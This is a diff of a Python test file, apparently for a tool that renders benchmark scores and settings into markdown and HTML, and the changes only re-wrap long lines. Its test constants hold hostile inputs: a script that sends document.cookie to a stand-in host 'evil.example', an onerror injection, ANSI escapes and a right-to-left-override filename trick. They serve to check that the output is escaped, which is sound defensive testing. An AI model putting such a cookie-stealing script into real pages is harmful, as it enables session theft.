@@ -18,7 +18,10 @@ from opdcl.rundir.layout import RunDir
 
 ROOT = Path(__file__).parents[3]
 PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
-HOSTILE = f'{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 | `tick` ![x](https://evil.example/x.png) $x^2$ " 漢'
+HOSTILE = (
+    f"{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 | `tick` "
+    '![x](https://evil.example/x.png) $x^2$ " 漢'
+)
 
 pytestmark = pytest.mark.usefixtures("few_resamples")
 
@@ -43,7 +46,8 @@ def test_markdown_and_html_show_scores_distance_settings_and_runs(three, tmp_pat
     assert "| ours 1 seed | 70.0 % [" in text
     assert "0.83 [" in text
     assert re.search(
-        r"\| general \| [+-]\d+\.\d \[[^]]+\] \| \+20\.0 \[\+\d+\.\d, \+\d+\.\d\] \| -20\.0 \[-\d+\.\d, -\d+\.\d\] \| scaled \|",
+        r"\| general \| [+-]\d+\.\d \[[^]]+\] \| \+20\.0 \[\+\d+\.\d, \+\d+\.\d\] "
+        r"\| -20\.0 \[-\d+\.\d, -\d+\.\d\] \| scaled \|",
         text,
     )
     assert "| recover.method | alternating | general | interpolate |" in text
